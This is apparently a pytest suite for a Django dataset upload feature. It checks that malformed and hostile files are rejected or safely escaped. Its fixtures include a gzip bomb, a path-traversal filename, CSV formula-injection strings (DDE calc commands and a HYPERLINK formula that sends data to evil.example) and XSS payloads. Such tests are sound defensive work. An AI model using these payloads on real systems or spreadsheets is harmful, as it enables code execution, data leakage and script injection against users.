"""Faults: malformed and hostile uploads sent through the web upload view as a curator.

For every file: no server error on any page, no partial import (a file is either rejected whole with 0
examples, or its good records are imported and each bad one is rejected with its line number, as the
README's "Validation" step documents), and every rejection carries a human-readable reason shown on the
upload page. Import runs in-process (``imports.process``, the body of the ``process_upload`` task)."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import zipfile

import pytest
from django.urls import reverse
from django.utils.html import escape

from datasets_app.models import Example, Upload
from datasets_app.services import datasets, imports, versions

pytestmark = pytest.mark.django_db

OK = {
    "messages": [
        {"role": "user", "content": "Where is my parcel?"},
        {"role": "assistant", "content": "It ships today."},
    ]
}
OK_LINE = json.dumps(OK).encode()


def conv(user: str, assistant: str = "ok", **extra) -> bytes:
    body = {"messages": [{"role": "user", "content": user}, {"role": "assistant", "content": assistant}]}
    body.update(extra)
    return json.dumps(body, ensure_ascii=False).encode()


def lines(*rows: bytes) -> bytes:
    return b"\n".join(rows) + b"\n"


def _gzip_bomb() -> bytes:
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb") as gz:
        chunk = b"\0" * (1024 * 1024)
        for _ in range(64):  # 64 MiB of zeros in ~64 KB
            gz.write(chunk)
    return buf.getvalue()


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _nested_zip() -> bytes:
    inner = _zip({"data.jsonl": lines(OK_LINE) * 100})
    return _zip({"inner.zip": inner, "readme.txt": b"hello"})


PNG = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89" + b"\0" * 64
ELF = b"\x7fELF\x02\x01\x01\0" + b"\0" * 8 + b"\x02\0>\0\x01\0\0\0" + bytes(range(256)) * 4
RANDOM = bytes((i * 7919 + 13) % 256 for i in range(8192))
DEEP = b"[" * 10_000 + b"]" * 10_000
DEEP_OBJ = b'{"messages": ' + b"[" * 10_000 + b"]" * 10_000 + b"}"

# (id, filename, content, format, expected): expected is "rejected" (whole file refused, nothing
# imported), ("imported", good, [rejected line numbers]) or "form" (refused by the upload form itself).
CASES = [
    # --- encodings -------------------------------------------------------------------------------
    ("utf16-bom", "a.jsonl", lines(OK_LINE).decode().encode("utf-16"), "", "rejected"),
    ("utf16le-no-bom", "a.jsonl", lines(OK_LINE).decode().encode("utf-16-le"), "", "rejected"),
    ("utf16be-no-bom", "a.jsonl", lines(OK_LINE).decode().encode("utf-16-be"), "", "rejected"),
    ("utf32-bom", "a.jsonl", lines(OK_LINE).decode().encode("utf-32"), "", "rejected"),
    (
        "latin1-whole",
        "a.jsonl",
        lines(conv("Caf\u00e9 cr\u00e8me?").decode().encode("latin-1")),
        "",
        "rejected",
    ),
    (
        "latin1-one-line",
        "a.jsonl",
        lines(OK_LINE, conv("Caf\u00e9?").decode().encode("latin-1"), OK_LINE),
        "",
        ("imported", 2, [2]),
    ),
    (
        "lone-surrogate-bytes",
        "a.jsonl",
        lines(
            OK_LINE,
            b'{"messages": [{"role": "user", "content": "x\xed\xa0\x80y"}, '
            b'{"role": "assistant", "content": "ok"}]}',
            OK_LINE,
        ),
        "",
        ("imported", 2, [2]),
    ),
    (
        "lone-surrogate-escape",
        "a.jsonl",
        lines(OK_LINE, conv("x\\ud800y").replace(b"\\\\ud800", b"\\ud800"), OK_LINE),
        "",
        ("imported", 2, [2]),
    ),
    (
        "overlong-utf8",
        "a.jsonl",
        lines(
            OK_LINE,
            b'{"messages": [{"role": "user", "content": "\xc0\xaf\xe0\x80\xaf"}, '
            b'{"role": "assistant", "content": "ok"}]}',
        ),
        "",
        ("imported", 1, [2]),
    ),
    ("utf8-bom-ok", "a.jsonl", b"\xef\xbb\xbf" + lines(OK_LINE, OK_LINE), "", ("imported", 2, [])),
    ("crlf-ok", "a.jsonl", OK_LINE + b"\r\n" + OK_LINE + b"\r\n", "", ("imported", 2, [])),
    # --- binary ------------------------------------------------------------------------------------
    ("png", "a.jsonl", PNG, "", "rejected"),
    ("elf", "a.jsonl", ELF, "", "rejected"),
    ("random-bytes", "a.jsonl", RANDOM, "", "rejected"),
    ("nul-only", "a.jsonl", b"\0" * 4096, "", "rejected"),
    (
        "nul-in-one-line",
        "a.jsonl",
        lines(OK_LINE, OK_LINE[:20] + b"\0" + OK_LINE[20:], OK_LINE),
        "",
        ("imported", 2, [2]),
    ),
    # --- sizes and nesting ------------------------------------------------------------------------
    ("deep-array-10k", "a.jsonl", lines(OK_LINE, DEEP, OK_LINE), "", ("imported", 2, [2])),
    ("deep-in-messages-10k", "a.jsonl", lines(OK_LINE, DEEP_OBJ), "", ("imported", 1, [2])),
    ("deep-array-only", "a.json", DEEP, "", "rejected"),
    (
        "many-keys",
        "a.jsonl",
        lines(OK_LINE, json.dumps({**OK, **{f"k{i}": i for i in range(50_000)}}).encode()),
        "",
        ("imported", 2, []),
    ),
    (
        "duplicate-keys",
        "a.jsonl",
        lines(b'{"messages": "x", ' + OK_LINE[1:], OK_LINE),
        "",
        ("imported", 2, []),
    ),
    (
        "huge-number",
        "a.jsonl",
        lines(OK_LINE, b'{"messages": [], "n": 1' + b"0" * 5000 + b"}"),
        "",
        ("imported", 1, [2]),
    ),
    (
        "huge-number-in-array",
        "a.json",
        b"[" + OK_LINE + b",\n" + OK_LINE[:-1] + b', "n": 9' + b"9" * 5000 + b"}]",
        "",
        ("imported", 1, [2]),
    ),
    ("huge-float", "a.jsonl", lines(OK_LINE, b'{"n": 1e999999, ' + OK_LINE[1:]), "", ("imported", 2, [])),
    # --- JSON that is not a conversation ---------------------------------------------------------------
    ("json-number", "a.json", b"42\n", "", "rejected"),
    ("json-string", "a.json", b'"hello"\n', "", "rejected"),
    ("json-null", "a.json", b"null\n", "", "rejected"),
    ("json-empty-array", "a.json", b"[]\n", "", "rejected"),
    ("jsonl-scalars", "a.jsonl", b'1\n"two"\nnull\ntrue\n', "", "rejected"),
    ("mixed-scalars", "a.jsonl", lines(OK_LINE, b"null", b"3", OK_LINE), "", ("imported", 2, [2, 3])),
    ("truncated-json", "a.jsonl", lines(OK_LINE, OK_LINE[:-7]), "", ("imported", 1, [2])),
    # --- empty -------------------------------------------------------------------------------------------
    ("empty", "a.jsonl", b"", "", "form"),
    ("only-whitespace", "a.jsonl", b"  \n\t\n\r\n   \n", "", "rejected"),
    # --- archives --------------------------------------------------------------------------------------
    ("gzip-bomb", "a.jsonl.gz", _gzip_bomb(), "", "rejected"),
    ("gzip-as-jsonl", "a.jsonl", gzip.compress(lines(OK_LINE)), "", "rejected"),
    ("zip", "a.jsonl", _zip({"a.jsonl": lines(OK_LINE)}), "", "rejected"),
    ("nested-zip", "a.zip", _nested_zip(), "", "rejected"),
    ("bzip2", "a.jsonl", bz2.compress(lines(OK_LINE)), "", "rejected"),
    ("xz", "a.jsonl", lzma.compress(lines(OK_LINE)), "", "rejected"),
    ("zstd-magic", "a.jsonl", b"\x28\xb5\x2f\xfd" + b"\0" * 64, "", "rejected"),
    ("7z-magic", "a.jsonl", b"7z\xbc\xaf\x27\x1c" + b"\0" * 64, "", "rejected"),
    # --- names and extensions ---------------------------------------------------------------------------
    ("wrong-extension", "photo.png", lines(OK_LINE), "", ("imported", 1, [])),
    ("path-traversal-name", "../../etc/passwd", lines(OK_LINE), "", ("imported", 1, [])),
    ("very-long-name", "x" * 1000 + ".jsonl", lines(OK_LINE), "", ("imported", 1, [])),
    ("forced-wrong-format", "a.jsonl", lines(OK_LINE), "alpaca", "rejected"),
]


@pytest.fixture
def dataset(curator):
    return datasets.create_dataset("Hostile", "sft", curator)


def post_upload(client, dataset, name: str, data: bytes, fmt: str = "", mapping: dict | None = None):
    """POST the file as a browser would; run the queued import in-process. Returns (response, upload)."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    f = SimpleUploadedFile(name, data, content_type="application/octet-stream")
    response = client.post(reverse("datasets:upload_new", args=[dataset.pk]), {"file": f, "format": fmt})
    assert response.status_code < 500
    upload = Upload.objects.order_by("-pk").first()
    if response.status_code == 302 and upload and upload.status == Upload.Status.NEEDS_MAPPING:
        assert client.get(response["Location"]).status_code == 200
        response = client.post(response["Location"], mapping or {})
        assert response.status_code < 500
        upload.refresh_from_db()
    if upload is not None and upload.status == Upload.Status.QUEUED:
        imports.process(upload.pk)
        upload.refresh_from_db()
    return response, upload


def check_outcome(client, dataset, response, upload, expected):
    if expected == "form":
        assert response.status_code == 200
        assert upload is None and Example.objects.count() == 0
        assert "The submitted file is empty" in response.content.decode()
        return
    assert response.status_code == 302, response.content[:2000]
    page = client.get(reverse("datasets:upload", args=[upload.pk]))
    assert page.status_code == 200
    html = page.content.decode()
    for url in (
        reverse("datasets:detail", args=[dataset.pk]),
        reverse("datasets:examples", args=[dataset.pk]),
    ):
        assert client.get(url).status_code == 200
    if expected == "rejected":
        assert upload.status == Upload.Status.REJECTED, (upload.status, upload.error_text, upload.report)
        assert Example.objects.count() == 0 and upload.imported_count == 0
        assert len(upload.error_text) > 20 and escape(upload.error_text) in html
        return
    _, good, bad_lines = expected
    assert upload.status == Upload.Status.IMPORTED, (upload.status, upload.error_text, upload.report)
    assert Example.objects.filter(upload=upload).count() == upload.imported_count == good
    assert Example.objects.count() == good
    assert upload.rejected_count == len(bad_lines)
    assert [r["line"] for r in upload.report["first"]] == bad_lines
    assert all(set(r) == {"line", "code"} for r in upload.report["first"])  # the reasons are sealed
    for r in upload.first_rejections():
        assert len(r["reason"]) > 10 and escape(r["reason"]) in html
    if bad_lines:
        assert "Rejected lines" in html


@pytest.mark.parametrize(
    ("name", "data", "fmt", "expected"), [c[1:] for c in CASES], ids=[c[0] for c in CASES]
)
def test_hostile_upload(curator, client_for, dataset, name, data, fmt, expected):
    client = client_for(curator)
    response, upload = post_upload(client, dataset, name, data, fmt)
    check_outcome(client, dataset, response, upload, expected)
    if upload is not None:
        assert "/" not in upload.original_name and upload.original_name != ".."
        assert len(upload.original_name) <= 255


def test_line_over_the_size_limit_is_rejected_with_its_number(curator, client_for, dataset):
    from datasets_app import parsing

    huge = conv("a" * (parsing.DEFAULT_MAX_LINE_BYTES + 10))
    response, upload = post_upload(client_for(curator), dataset, "big.jsonl", lines(OK_LINE, huge, OK_LINE))
    check_outcome(client_for(curator), dataset, response, upload, ("imported", 2, [2]))
    assert upload.report["first"][0]["code"] == "line_too_long"


def test_file_just_over_the_upload_limit(curator, client_for, dataset, settings):
    data = lines(*[OK_LINE] * 20)
    settings.STUDIO_UPLOAD_MAX_BYTES = len(data) - 1
    client = client_for(curator)
    response, upload = post_upload(client, dataset, "big.jsonl", data)
    assert response.status_code == 200 and upload is None and Example.objects.count() == 0
    assert "larger than the upload limit" in response.content.decode()
    settings.STUDIO_UPLOAD_MAX_BYTES = len(data)  # exactly at the limit: accepted
    response, upload = post_upload(client, dataset, "big.jsonl", data)
    check_outcome(client, dataset, response, upload, ("imported", 20, []))


FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    '@HYPERLINK("http://evil.example/?x="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
]


def test_csv_formula_injection_imports_as_plain_text_and_exports_verbatim_as_json(
    curator, client_for, dataset, monkeypatch
):
    """Formula-looking cells are data: imported unchanged. The only export is JSONL, where every value is
    a JSON string inside an object (each line starts with ``{``), so no spreadsheet evaluates it; there
    is no CSV export to neutralise."""
    import csv

    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(["question", "answer", "topic"])
    for i, f in enumerate(FORMULAS):
        writer.writerow([f, f"answer {i} {f}", f])
    client = client_for(curator)
    response, upload = post_upload(
        client,
        dataset,
        "formulas.csv",
        buf.getvalue().encode(),
        mapping={"prompt": "question", "response": "answer", "system": "", "tags": "topic"},
    )
    check_outcome(client, dataset, response, upload, ("imported", len(FORMULAS), []))
    stored = [ex.messages[0]["content"] for ex in Example.objects.order_by("position")]
    assert stored == FORMULAS
    monkeypatch.setattr(versions, "blockers", lambda d: [])
    version = versions.freeze(dataset, curator, "formulas")
    resp = client.get(reverse("datasets:version_export", args=[version.pk]))
    assert resp.status_code == 200 and resp["Content-Type"] == "application/jsonl"
    body = b"".join(resp.streaming_content).decode()
    rows = body.splitlines()
    assert len(rows) == len(FORMULAS) and all(r.startswith('{"messages"') for r in rows)
    assert [json.loads(r)["messages"][0]["content"] for r in rows] == FORMULAS


SCRIPTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)><script>alert(2)</script></svg>",
]


@pytest.mark.parametrize("payload", SCRIPTS, ids=["script", "img-onerror", "javascript-url", "svg"])
def test_script_payloads_are_escaped_everywhere(curator, client_for, dataset, payload):
    client = client_for(curator)
    name = f"{payload}.jsonl"
    response, upload = post_upload(client, dataset, name, lines(conv(payload, payload, tags=[payload])))
    check_outcome(client, dataset, response, upload, ("imported", 1, []))
    ex = Example.objects.get()
    assert ex.messages[0]["content"] == payload and ex.tags == [payload]
    raw_markers = ("<script>alert", "<img src=x", "<svg onload", 'href="javascript:')
    for url in (
        reverse("datasets:upload", args=[upload.pk]),
        reverse("datasets:detail", args=[dataset.pk]),
        reverse("datasets:examples", args=[dataset.pk]),
        reverse("datasets:example", args=[ex.pk]),
    ):
        html = client.get(url).content.decode()
        for marker in raw_markers:
            assert marker not in html, url
    bad = lines(OK_LINE, b'{"messages": [{"role": "' + payload.encode() + b'", "content": "x"}]}')
    Example.objects.all().delete()
    response, upload = post_upload(client, dataset, "roles.jsonl", bad)
    html = client.get(reverse("datasets:upload", args=[upload.pk])).content.decode()
    assert upload.rejected_count == 1 and Example.objects.count() == 1
    assert all(marker not in html for marker in raw_markers)
